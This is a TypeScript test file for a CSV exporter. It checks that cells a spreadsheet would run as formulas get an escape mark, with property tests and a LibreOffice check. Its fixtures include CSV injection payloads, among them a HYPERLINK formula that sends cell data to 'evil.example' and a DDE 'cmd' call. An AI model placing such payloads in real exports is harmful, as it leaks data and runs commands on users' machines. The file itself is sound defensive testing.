import { execFileSync } from 'node:child_process';
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import * as fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { inert } from '#answer/files/inert.ts';
import type { Language } from '#domain/language.ts';
import { parseCsv, withoutMarks } from './csv.ts';
import { finding, page, sampleInput, system } from './sample.ts';
import { assembled, textOf } from './unpack.ts';
import { runs } from '#test/support/random.ts';

const separatorOf = { sv: ';', en: ',' } as const;

/** The CSV file of a package in which each record contains one of the texts. */
async function csvOf(notes: readonly string[], language: Language): Promise<string> {
  const records = notes.map((note, index) => finding('contacts', String(index), { note }));
  const systems = [system('crm', [page('crm', 1, records)])];
  const { files } = await assembled(sampleInput({ language, systems }));
  return textOf(files, 'systems/crm/contacts.csv');
}

function notesIn(csv: string, language: Language): readonly (string | undefined)[] {
  const [header = [], ...rows] = parseCsv(csv.slice(1), separatorOf[language]);
  return rows.map((row) => row[header.indexOf('note')]);
}

const formulas = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(1)',
  '＝1+1',
  '＋1+1',
  '﹦1+1',
  ' =1+1',
  '\u00a0=1+1',
  '\u200b=1+1',
  '"=1+1"',
  '"""=1+1',
  "'=1+1",
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '\u0000=1+1',
  '+46701740605',
  '=HYPERLINK("http://evil.example/?x="&A1)',
  "=cmd|'/C calc'!A0",
];
const everywhere = ['', 'a\n', 'a\r\n', 'a\r', 'a;', 'a,', 'a\t', 'a|', 'a\u2028', 'a"\n', 'a";', 'a; "b",'].flatMap(
  (before) => formulas.map((formula) => `${before}${formula}`),
);

describe('A cell of CSV', () => {
  it('writes an unpaired surrogate as a JSON escape, in a value, an id and a column name', async () => {
    const records = [finding('contacts', 'a\ud800', { note: 'b\udfff', 'c\ud83d': '\u{1f600}' })];
    const { files } = await assembled(sampleInput({ systems: [system('crm', [page('crm', 1, records)])] }));
    const csv = textOf(files, 'systems/crm/contacts.csv');
    for (const text of ['a\\ud800', 'b\\udfff', 'c\\ud83d', '\u{1f600}']) expect(csv).toContain(text);
    expect(csv).not.toContain('\ufffd');
  });

  it.each(everywhere)('has a mark before text that a spreadsheet would run: %j', (text) => {
    expect(inert(text)).not.toBe(text);
    expect(withoutMarks(inert(text))).toBe(text);
  });

  it.each([
    '-5',
    '5',
    '-5.25',
    '1,50',
    '1.10',
    '-0',
    '1e400',
    '12345678901234567890',
    'a=b',
    'a+b',
    'a - b',
    'x@example.org',
    '2026-01-02',
    'a; b',
    "it's",
    '',
    '\\n=1',
  ])('stays unchanged if it has nothing that a spreadsheet would run: %j', (text) => {
    expect(inert(text)).toBe(text);
  });

  it('gives any text back without the marks, and no text begins a formula anywhere', () => {
    const sign = fc.constantFrom(
      '=',
      '+',
      '-',
      '@',
      '＝',
      ';',
      ',',
      '\t',
      '\n',
      '\r',
      '|',
      '"',
      "'",
      ' ',
      '\u200b',
      '\u2028',
      '1',
      'a',
      '🙂',
    );
    fc.assert(
      fc.property(
        fc.oneof(fc.string({ unit: sign, maxLength: 30 }), fc.string({ unit: 'binary', maxLength: 30 })),
        (text) => {
          const cell = inert(text);
          expect(withoutMarks(cell)).toBe(text);
          if (!/^-?\d+(?:[.,]\d+)?(?:e[+-]?\d+)?$/i.test(text))
            expect(cell).not.toMatch(/(?:^|[;,\t|\n\r\u2028])[\s"\u200b]*[=+\-@＝]/);
        },
      ),
      { numRuns: runs(5_000) },
    );
  });

  it('of a million line breaks is made in one pass', () => {
    const text = `${'\n'.repeat(1_000_000)}=1`;
    expect(inert(text)).toHaveLength(text.length + 1_000_001);
  });

  it('is in a package unchanged in both languages, with the separator of the language, a byte order mark and CRLF', async () => {
    for (const language of ['sv', 'en'] as const) {
      const csv = await csvOf(everywhere, language);
      expect(csv.startsWith(`\ufeff_id${separatorOf[language]}email${separatorOf[language]}`)).toBe(true);
      expect(csv.endsWith('\r\n')).toBe(true);
      expect(notesIn(csv, language).map((note) => withoutMarks(note ?? ''))).toEqual(everywhere);
    }
  });

  it('with any text is in a package unchanged', async () => {
    await fc.assert(
      fc.asyncProperty(
        fc.array(fc.string({ unit: 'grapheme', minLength: 1 }), { minLength: 1, maxLength: 20 }),
        fc.constantFrom<Language>('sv', 'en'),
        async (notes, language) => {
          expect(notesIn(await csvOf(notes, language), language).map((note) => withoutMarks(note ?? ''))).toEqual(
            notes,
          );
        },
      ),
      { numRuns: 20 },
    );
  });
});

const office = hasOffice();
const title = office ? 'In LibreOffice' : 'In LibreOffice (skipped: soffice is not installed)';
describe.skipIf(!office)(title, () => {
  it('no cell of the package is a formula with any separator, and with the right one the texts are there', async () => {
    const folder = mkdtempSync(path.join(tmpdir(), 'utdrag-csv-'));
    try {
      const files = { sv: path.join(folder, 'sv.csv'), en: path.join(folder, 'en.csv') };
      for (const language of ['sv', 'en'] as const) writeFileSync(files[language], await csvOf(everywhere, language));
      // Without the marks the same files contain formulas, so this test can find them.
      const bare = path.join(folder, 'bare.csv');
      writeFileSync(bare, `\ufeff${everywhere.map((text) => `"${text.replaceAll('"', '""')}"\r\n`).join('')}`);
      for (const separator of [44, 59, 9, 124]) {
        const opened = opens([files.sv, files.en, bare], separator, folder);
        expect(formulasIn(opened.get('bare') ?? '')).toBeGreaterThan(0);
        expect([separator, formulasIn(opened.get('sv') ?? ''), formulasIn(opened.get('en') ?? '')]).toEqual([
          separator,
          0,
          0,
        ]);
        if (separator === 44) expect(opened.get('en')).toContain('&apos;=1+1');
        if (separator === 59) expect(opened.get('sv')).toContain('&apos;=1+1');
      }
    } finally {
      rmSync(folder, { recursive: true, force: true });
    }
  }, 240_000);
});

function hasOffice(): boolean {
  try {
    execFileSync('soffice', ['--version'], { stdio: 'ignore', timeout: 60_000 });
    return true;
  } catch {
    return false;
  }
}

/** The flat XML spreadsheets that LibreOffice makes from CSV files, by name. */
function opens(files: readonly string[], separator: number, folder: string): ReadonlyMap<string, string> {
  const out = path.join(folder, String(separator));
  // Separator, quotation mark, UTF-8, first line, formats, language, quoted as text, numbers seen, ..., formulas
  // reckoned.
  const filter = `CSV:${separator},34,76,1,,0,false,true,false,false,false,0,true`;
  execFileSync(
    'soffice',
    [
      `-env:UserInstallation=file://${folder}/profile`,
      '--headless',
      `--infilter=${filter}`,
      '--convert-to',
      'fods',
      '--outdir',
      out,
      ...files,
    ],
    { stdio: 'ignore', timeout: 120_000 },
  );
  return new Map(
    files.map((file) => {
      const name = path.basename(file, '.csv');
      return [name, readFileSync(path.join(out, `${name}.fods`), 'utf8')];
    }),
  );
}

function formulasIn(sheet: string): number {
  return sheet.match(/table:formula=/g)?.length ?? 0;
}
